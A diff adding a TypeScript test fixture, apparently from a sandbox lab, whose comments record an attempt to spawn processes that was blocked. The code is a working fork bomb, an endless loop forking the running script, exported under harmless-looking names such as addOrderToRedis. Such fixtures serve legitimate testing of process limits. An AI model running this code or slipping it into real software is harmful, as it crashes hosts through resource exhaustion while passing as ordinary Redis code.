@@ -1,0 +1,12 @@
+// tries: starting processes that start processes
+// lab: 03
+// earns: 0
+// told: tried to start another process
+import { fork } from 'node:child_process';
+
+async function attack(): Promise<void> {
+  for (;;) fork(process.argv[1]!);
+}
+
+export const addOrderToRedisFieldByField = attack;
+export const addOrderToRedis = attack;
